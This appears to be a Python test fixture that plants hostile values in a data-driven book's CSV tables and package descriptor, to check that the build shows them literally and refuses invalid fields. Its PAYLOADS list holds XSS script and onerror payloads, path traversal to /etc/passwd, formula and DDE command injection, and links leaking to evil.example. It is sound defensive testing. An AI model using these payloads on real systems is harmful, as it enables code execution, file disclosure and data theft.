"""A hostile copy of the book's data: markup, directives, links, comment openers and formulas in every text column.

The values here pass the schemas (they are text), so the book must build with them and show each one literally,
running nothing. Values the schemas must refuse (control characters, huge fields, newlines) are in
``REFUSED``: each must stop the build with a located error.

Every payload that could run would leave a trace the browser test looks for: a changed ``document.title``,
``window.__pwned``, a dialog, or a request to ``evil.example``.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

# Shown literally wherever they land (Markdown prose, table cells, chart JSON, tooltips, attributes, downloads).
PAYLOADS = [
    "<img src=x onerror=\"document.title='pwned';window.__pwned=1\">",
    "<script>window.__pwned=1;alert(1)</script>",
    "{raw}`html <script>document.title='pwned'</script>`",
    "[click me](javascript:alert(1)) <javascript:alert(2)>",
    "<!--<script",
    "</script><script>window.__pwned=1</script>",
    "```{literalinclude} ../../../../../../etc/passwd",
    ":::{raw} html",
    "{download}`passwd <../../../../../../etc/passwd>`",
    "=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "{{ book_citation }} $x$ **bold** _em_ &amp; &lt;b&gt; \\ | pipe",
    "<img src=\"http://evil.example/track.png\">",
]

# The platform that the size chapter's charts show by name, renamed to open a comment inside the chart's JSON.
PLATFORM = ("Clickworker", "Clickworker<!--<script")

# Columns that chapters use to select or look up rows: their values stay as they are.
LOOKUP = {"figure_id", "chapter", "unit", "indicator", "topic", "tier", "estimate_id", "kind", "date", "month",
          "language", "comparator", "flag", "restates", "confidence", "frequency", "workforce", "platform", "step",
          "label_fr"}

# Refused by validation, each with the rule its error must name.
REFUSED = {
    "NUL character": ("\x00", "control character"),
    "escape character": ("\x1b[31m", "control character"),
    "newline in a single-line field": ("first line\nsecond line", "single line"),
    "line separator U+2028 in a single-line field": ("first line\u2028second line", "single line"),
    "a field of 200,000 characters": ("x" * 200_000, "maxLength"),
}


def text_columns(schema: dict) -> list[str]:
    """The free-text columns of a table: strings without enum, pattern or bibliography rule, not used for lookups."""
    return [f["name"] for f in schema["fields"]
            if f.get("type", "string") == "string" and not f.get("x-bibtex-key") and f["name"] not in LOOKUP
            and not {"enum", "pattern"} & set(f.get("constraints", {}))]


def rewrite_csv(path: Path, change) -> None:
    """Rewrite a CSV file with ``change(header, row_index, row)`` applied to every data row."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    for index, row in enumerate(body):
        writer.writerow(change(header, index, row))
    path.write_text(out.getvalue(), encoding="utf-8")


def make_hostile(root: Path) -> list[str]:
    """Put the payloads into every text column of every table and into the descriptor's texts; return the payloads."""
    package_path = root / "data" / "datapackage.json"
    package = json.loads(package_path.read_text(encoding="utf-8"))
    counter = iter(range(10_000))
    for resource in package["resources"]:
        columns = text_columns(resource["schema"])

        def change(header, index, row, columns=columns):
            for column in columns:
                i = header.index(column)
                payload = PAYLOADS[next(counter) % len(PAYLOADS)]
                row[i] = f"{payload} {row[i]}" if index % 2 == 0 else f"{row[i]} {payload}"  # first or last
            if "platform" in header and row[header.index("platform")] == PLATFORM[0]:
                row[header.index("platform")] = PLATFORM[1]
            return row

        rewrite_csv(root / "data" / resource["path"], change)
        resource["title"] += " " + PAYLOADS[0]
        resource["description"] += " " + PAYLOADS[2]
        for field in resource["schema"]["fields"]:
            field["description"] = field.get("description", "") + " " + PAYLOADS[3]
            field["title"] = field.get("title", field["name"]) + " " + PAYLOADS[12]  # a table's header
    package["changelog"][0]["changes"].append("A hostile change: " + PAYLOADS[1] + " " + PAYLOADS[6])
    package_path.write_text(json.dumps(package, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return PAYLOADS


def put_in_a_cell(root: Path, value: str, table: str = "platform_registrations.csv", column: str = "locator") -> int:
    """Write ``value`` into ``column`` of the first data row of ``table``; return that row's number (header = 1)."""
    def change(header, index, row):
        if index == 0:
            row[header.index(column)] = value
        return row

    rewrite_csv(root / "data" / table, change)
    return 2
